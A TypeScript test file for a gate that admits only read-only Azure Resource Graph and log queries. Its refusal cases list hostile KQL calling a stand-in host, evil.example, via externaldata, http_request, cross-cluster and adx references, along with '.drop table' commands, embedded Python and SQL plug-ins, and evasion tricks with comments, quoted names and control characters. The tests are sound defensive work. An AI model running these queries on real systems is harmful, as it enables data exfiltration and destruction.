import { describe, expect, it } from "vitest";
import { kqlWithoutText } from "../../../../services/azure/gate/kql-without-text.ts";
import { admitRead } from "../../../../services/azure/read-gate.ts";
import { group, origins, subscription, vault } from "../support/table-paths.ts";

const span = { from: "2026-10-14T08:00:00Z", to: "2026-10-14T09:00:00Z" };

function graphQuery(query: string, subscriptions?: string[]) {
  return admitRead({ kind: "resource_graph", query, ...(subscriptions ? { subscriptions } : {}) }, origins);
}

function logQuery(query: string, resourceId = vault) {
  return admitRead({ kind: "logs", resourceId, query, ...span }, origins);
}

describe("a Resource Graph query", () => {
  it("is the one POST of its path, with the subscriptions that were given", () => {
    const ids = ["11111111-2222-4333-8444-555555555555"];
    expect(graphQuery("resources | where name =~ 'kv-orders'", ids)).toEqual({
      ok: true,
      value: {
        plane: "arm",
        method: "POST",
        url: new URL(
          "https://management.azure.com/providers/Microsoft.ResourceGraph/resources?api-version=2024-04-01",
        ),
        body: JSON.stringify({ query: "resources | where name =~ 'kv-orders'", subscriptions: ids }),
        source: "resource_graph",
        request: "POST /providers/Microsoft.ResourceGraph/resources?api-version=2024-04-01",
        query: "resources | where name =~ 'kv-orders'",
      },
    });
  });

  it.each([
    ["subscriptions that are no GUIDs", ["all"]],
    ["a subscription with a quote", ["11111111-2222-4333-8444-555555555555'"]],
    ["too many subscriptions", Array.from({ length: 1_001 }, () => "11111111-2222-4333-8444-555555555555")],
  ])("is refused for %s", (_, subscriptions) => {
    const admitted = graphQuery("resources", subscriptions);
    expect(!admitted.ok && admitted.failure.code).toBe("ReadNotAllowed");
  });
});

describe("a log query", () => {
  it("is posted to the resource's own path, with its time span", () => {
    expect(logQuery("AzureDiagnostics | take 5")).toEqual({
      ok: true,
      value: {
        plane: "logs",
        method: "POST",
        url: new URL(`https://api.loganalytics.azure.com/v1${vault}/query`),
        body: JSON.stringify({
          query: "AzureDiagnostics | take 5",
          timespan: "2026-10-14T08:00:00Z/2026-10-14T09:00:00Z",
        }),
        source: "logs",
        request: `POST /v1${vault}/query`,
        query: "AzureDiagnostics | take 5",
      },
    });
  });

  it.each([group, subscription])("may be asked over %s", (scope) => {
    expect(logQuery("AzureActivity", scope).ok).toBe(true);
  });

  it.each([
    ["a collection", `${group}/providers/Microsoft.KeyVault/vaults`],
    ["a provider", `${subscription}/providers/Microsoft.KeyVault`],
    ["an unknown type", `${group}/providers/Microsoft.Unknown/things/t`],
    ["a URL", "https://evil.example/v1/x"],
    ["a path trick", `${vault}/../other`],
    ["a tenant's resource", "/providers/Microsoft.Management/managementGroups/mg"],
    ["a location", `${subscription}/providers/Microsoft.Compute/locations/westeurope`],
  ])("is refused over %s", (_, resourceId) => {
    const admitted = logQuery("T", resourceId);
    expect(!admitted.ok && admitted.failure.code).toBe("ReadNotAllowed");
  });
});

describe("KQL", () => {
  it.each([
    "resources | where type =~ 'microsoft.keyvault/vaults' | project id, name",
    "let since = ago(1h);\nAzureDiagnostics | where TimeGenerated > since",
    "resources | extend acl = properties.networkAcls | mv-expand rule = acl.ipRules",
    "resources | where tags['cluster(x)'] == 'externaldata' // cluster('a').database('b')",
    "T | where Message has '.show tables' and Url == @'C:\\' and x == \"it's\"",
    "requests | evaluate bag_unpack(customDimensions)",
    "requests | evaluate hint.distribution = per_shard pivot(name)",
    "resources | where name == 'a;.drop table T'",
    "T | where cluster == 'a' and database == 'b'",
    "union isfuzzy=true AppRequests, requests | summarize count() by bin(TimeGenerated, 5m)",
    "T | where x == ```multi\n.show``` | take 1",
    "T | where tags['app'] in ('a') and tags[\"resource\"] has_any ('b') and app in~ ('c')",
    "resources | where properties.app == 'x' | project resource = id, app = tostring(properties['app'])",
    "T | where Message has '#connect' // #connect\n| extend a = dynamic(['x'])[0]",
  ])("that only asks passes: %s", (query) => {
    expect([graphQuery(query).ok, logQuery(query).ok]).toEqual([true, true]);
  });

  it.each([
    ["a management command", ".show tables"],
    ["a command behind white space", "  \n\t.drop table T"],
    ["a command behind a comment", "// harmless\n.set-or-append T <| U"],
    ["a command behind a statement", "let x = 1; .show cluster"],
    ["external data", "externaldata(a: string) ['https://evil.example/x']"],
    ["external data in capitals", "ExternalData (a: string) [@'https://evil.example']"],
    ["an external table", "external_table('T')"],
    ["a web request", "evaluate http_request('https://evil.example')"],
    ["a web request behind a pipe", "T | evaluate http_request_post ('https://evil.example')"],
    ["another cluster", "cluster('https://evil.example').database('d').T"],
    ["another cluster behind a line break", "cluster\n('x').database('d').T"],
    ["another cluster behind a comment", "cluster // c\n('x').T"],
    ["another database", "database('d').T"],
    ["Data Explorer", "adx('https://evil.example/d').T"],
    ["another workspace", "union T, workspace('other').T"],
    ["another Application Insights", "app('other').requests"],
    ["another resource", "resource ('/subscriptions/x').T"],
    ["Resource Graph from a log query", "arg('').Resources"],
    ["a function by a quoted name", "['cluster']('https://evil.example').database('d').T"],
    ["a function by a name in double quotes", '["adx"] ("https://evil.example/d").T'],
    ["a function by a verbatim name", "[@'adx']('https://evil.example/d').T"],
    ["external data by a quoted name", "[ 'externaldata' ](a: string)[@'https://evil.example']"],
    ["a plug-in by a quoted name", "T | evaluate ['http_request']('https://evil.example')"],
    [
      "a plug-in by a quoted name behind a hint",
      "T | evaluate hint.remote=local [\"python\"](typeof(*), 'x')",
    ],
    ["a management command on a later line", "T | take 1\n.drop table T"],
    ["a directive", "#connect 'https://evil.example'\nT"],
    ["code in Python", "T | evaluate python(typeof(*), 'import os')"],
    ["a SQL request", "T | evaluate sql_request('Server=evil', 'select 1')"],
    ["an unknown plug-in with a hint", "T | evaluate hint.remote=local r(typeof(*), 'x')"],
    ["query options", "set notruncation;\nT"],
    ["query parameters", "declare query_parameters(x: string);\nT"],
    ["an alias", "alias database d = cluster('x').database('y'); T"],
    ["a string without end", "T | where x == 'cluster("],
    ["a string that ends with its line", "T | where x == '\n' | cluster('a').T"],
    ["a block string without end", "T | where x == ```cluster("],
    ["a string that a backslash keeps open", "T | where x == 'a\\' | cluster('b')"],
    ["control characters", "T\u0007"],
    ["a direction override", "T // \u202e"],
    ["nothing", "  "],
    ["too much", `T | where x == '${"a".repeat(20_000)}'`],
  ])("is refused for %s", (_, query) => {
    expect(
      [graphQuery(query), logQuery(query)].map((admitted) => !admitted.ok && admitted.failure.code),
    ).toEqual(["ReadNotAllowed", "ReadNotAllowed"]);
  });
});

describe("KQL without its texts", () => {
  it.each([
    ["a 'b' c", 'a "" c'],
    ['a "b\\"c" d', 'a "" d'],
    ["a @'b\\' d", 'a @"" d'],
    ["a @'b''c' d", 'a @"" d'],
    ["a // b\nc", "a \nc"],
    ["a '// b' c", 'a "" c'],
    ["a // it's\nb", "a \nb"],
    ["h'secret' x", 'h"" x'],
    ["~~~a 'b~~~ c", '"" c'],
  ])("%j becomes %j", (query, code) => {
    expect(kqlWithoutText(query)).toBe(code);
  });
});
